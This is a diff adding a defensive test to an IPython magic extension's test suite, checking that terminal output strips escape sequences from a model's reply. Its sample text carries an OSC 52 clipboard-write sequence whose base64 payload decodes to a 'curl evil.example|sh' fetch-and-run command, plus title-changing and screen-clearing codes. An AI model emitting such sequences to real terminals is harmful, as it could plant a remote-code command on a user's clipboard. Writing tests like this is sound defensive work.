@@ -40,3 +40,28 @@ def test_terminal_streams_plain_text_once() -> None:
     assert "widget" not in cell.lower() and "<details>" not in cell
     assert "stored: alpha beta gamma delta" in out
     assert "ipywidgets imported: False" in out
+
+
+HOSTILE = r"""
+from IPython.testing.globalipapp import start_ipython
+ip = start_ipython()
+ip.run_line_magic("load_ext", "qwen_magic")
+ip.run_line_magic("qwencmd", "emulator start")
+from qwen_magic import _loaded
+from qwen_magic.testing import Reply
+text = "copy\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 title\x1b]0;pwned\x1b\\ red\x1b[31m end"
+_loaded[id(ip)].emulator.queue(Reply(text=text, reasoning="think\x1b[2J", chunks=len(text)))
+ip.run_cell("%%qwen --think -o r\nHello")
+print("stored intact:", ip.user_ns["r"].text == text)
+"""
+
+
+def test_terminal_never_prints_escape_sequences_from_the_model() -> None:
+    """OSC 52 would write the clipboard, OSC 0 the title: the text prints without them, even
+    when each character arrives alone; the Result keeps the text as it came."""
+    proc = subprocess.run(
+        [sys.executable, "-c", HOSTILE], capture_output=True, text=True, timeout=120, check=True
+    )
+    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
+    assert "copy" in proc.stdout and "end" in proc.stdout and "think" in proc.stdout
+    assert "stored intact: True" in proc.stdout
